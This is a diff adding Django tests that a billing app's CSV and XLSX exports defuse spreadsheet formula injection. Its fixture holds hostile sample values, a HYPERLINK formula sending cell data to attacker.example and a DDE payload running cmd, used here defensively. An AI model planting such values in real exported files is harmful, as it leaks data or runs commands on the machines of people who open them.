@@ -18,7 +18,7 @@ from django.urls import reverse
 from openpyxl import load_workbook
 
 from billing import bills, purchases
-from billing.exports import kind_label
+from billing.exports import csv_cell, kind_label
 from billing.pricing import SHANGHAI
 from cameras import roles
 from tests.billing.test_billing_pages import MARCH, enterprise_baidu, import_calls, personal_baidu
@@ -285,3 +285,67 @@ def test_an_export_of_a_malformed_month_is_refused(browser, march_account):
     # then it is refused with the reason
     assert response.status_code == 400
     assert b"YYYY-MM" in response.content
+
+
+# --- formula injection -------------------------------------------------------------------------
+
+FORMULA_NAME = '=HYPERLINK("http://attacker.example/?x="&A1,"click")'
+
+
+@pytest.fixture
+def formula_account(finance):
+    """A bill whose account name and adjustment notes are text a spreadsheet would run."""
+    account = personal_baidu(FORMULA_NAME)
+    import_calls(account, "body_attr", 12_001)
+    bills.finalize(account, 2025, 3, finance)
+    final = bills.current_bill(account, 2025, 3)
+    bills.add_adjustment(final, "body_attr", "-1.50", "@SUM(1+1)*cmd|' /C calc'!A0", finance)
+    bills.add_adjustment(final, "body_attr", "0.50", "+1+1", finance)
+    bills.add_adjustment(final, "body_attr", "0.25", "-2+3", finance)
+    bills.add_adjustment(final, "body_attr", "0.25", "=1+1", finance)
+    return account
+
+
+def test_the_csv_export_neutralizes_text_that_a_spreadsheet_would_read_as_a_formula(
+    browser, formula_account
+):
+    # when a bill whose names and notes start with = + - @ or a tab is exported as CSV
+    head, rows = read_csv(export(browser, formula_account, "csv").content)
+    # then every such text is written with a leading apostrophe (OWASP), so it is text
+    assert ["Account", "'" + FORMULA_NAME] in head
+    notes = [row["Description"] for row in rows if row["Row"] == "adjustment"]
+    assert notes == ["'@SUM(1+1)*cmd|' /C calc'!A0", "'+1+1", "'-2+3", "'=1+1"]
+    # and the title naming the account is neutralized too, while amounts stay numbers
+    assert not any(cell.startswith(("=", "+", "@")) for row in head for cell in row)
+    amounts = [row["Amount (CNY)"] for row in rows if row["Row"] == "adjustment"]
+    assert amounts == ["-1.50", "0.50", "0.25", "0.25"]
+
+
+def test_a_csv_cell_led_by_a_tab_or_carriage_return_is_neutralized_too():
+    # (notes are stripped on save, so these leads reach the writer only through names)
+    assert [csv_cell(v) for v in ("\tx", "\r=1", "plain", "-3.25", 7, None)] == [
+        "'\tx",
+        "'\r=1",
+        "plain",
+        "-3.25",
+        7,
+        "",
+    ]
+
+
+def test_the_xlsx_export_writes_chosen_text_as_text_never_as_a_formula(browser, formula_account):
+    # when the same bill is exported as XLSX and opened
+    content = export(browser, formula_account, "xlsx").content
+    sheet = load_workbook(io.BytesIO(content)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    # then no cell is a formula, and the names and notes read back as the text they are
+    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
+    values = {cell.value for cell in cells}
+    assert FORMULA_NAME in values
+    assert {"@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "=1+1"} <= values
+    # and the workbook's XML holds no formula element at all
+    import zipfile
+
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        sheet_xml = archive.read("xl/worksheets/sheet1.xml")
+    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
